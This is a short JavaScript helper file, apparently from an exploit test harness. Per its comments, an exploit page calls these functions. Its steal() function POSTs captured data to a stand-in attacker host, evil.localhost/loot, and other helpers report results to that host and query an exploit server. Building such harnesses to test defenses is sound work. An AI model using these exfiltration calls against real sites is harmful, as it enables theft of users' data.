/* oxlint-disable no-unused-vars -- exploit.html calls them */
// What every attacker has at hand. steal(): to the attacker's server. finished(): the attack is over, well or badly.
// server(): what exploit-server.ts answers; empty where it was refused.
const pending = []
function steal(data) {
  pending.push(fetch('https://evil.localhost/loot', { method: 'POST', mode: 'no-cors', body: data }).catch(() => {}))
}
async function finished(how) {
  await Promise.all(pending)
  await fetch('https://evil.localhost/finished', { method: 'POST', mode: 'no-cors', body: how })
}
async function server(body = '') {
  const response = await fetch('https://evil.localhost/server', { method: 'POST', body })
  return response.ok ? response.text() : ''
}
